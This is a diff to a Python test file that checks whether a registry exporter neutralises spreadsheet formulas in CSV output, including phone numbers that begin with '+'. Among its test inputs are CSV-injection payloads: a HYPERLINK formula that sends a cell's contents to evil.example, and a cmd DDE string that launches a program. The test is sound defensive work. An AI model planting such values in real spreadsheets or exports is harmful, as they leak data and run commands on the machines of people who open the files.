@@ -175,17 +175,23 @@ def _tiny_registry(tmp: Path, name: str) -> Path:
     return tmp
 
 
-def test_csv_neutralises_spreadsheet_formulas(tmp_path: Path) -> None:
-    reg, diags = load(_tiny_registry(tmp_path / "r", "=HYPERLINK(\"http://x\",\"y\")"))
+@pytest.mark.parametrize("name", ['=HYPERLINK("http://x","y")',
+                                  '-1+HYPERLINK("http://evil.example/?x="&A1,"x")',
+                                  "+1+cmd|' /C calc'!A0", "\uff1dSUM(1,2)"])
+def test_csv_neutralises_spreadsheet_formulas(tmp_path: Path, name: str) -> None:
+    reg, diags = load(_tiny_registry(tmp_path / "r", name))
     assert not [x for x in diags if x.severity == "error"], diags
     files = export_bytes(Directory(reg), "csv")
     deps = _read_csv(files["csv/departments.csv"])
-    assert deps[0]["name"].startswith("'=")
+    assert deps[0]["name"] == "'" + name
     contacts = _read_csv(files["csv/contacts.csv"])
-    assert [c["phone"] for c in contacts] == ["+86 851 0000"]  # a phone stays a phone
+    assert contacts[0]["department_name"] == "'" + name
+    # A phone starting with "+" is text too (Excel would read "+86-851-0000" as arithmetic);
+    # dropping the one leading apostrophe gives it back exactly.
+    assert [c["phone"] for c in contacts] == ["'+86 851 0000"]
     # JSON keeps the text exactly: it is data there, not a formula.
     doc = json.loads(export_bytes(Directory(reg), "json")["registry.json"])
-    assert doc["departments"][0]["name"].startswith("=HYPERLINK")
+    assert doc["departments"][0]["name"] == name
 
 
 # --- GeoJSON -------------------------------------------------------------------------------
@@ -333,6 +339,7 @@ def test_site_files_and_data_page(d: Directory, files: dict[str, bytes]) -> None
     assert links and all(f"data/{x}" in by_path for x in links), links
     for kind in CSV_KINDS:
         assert f"csv/{kind}.csv" in page
+    assert "`'+86 851 0000 0001`" in page and "`-3.5`" in page  # the spreadsheet rule
     assert export_files(d) == out
 
 
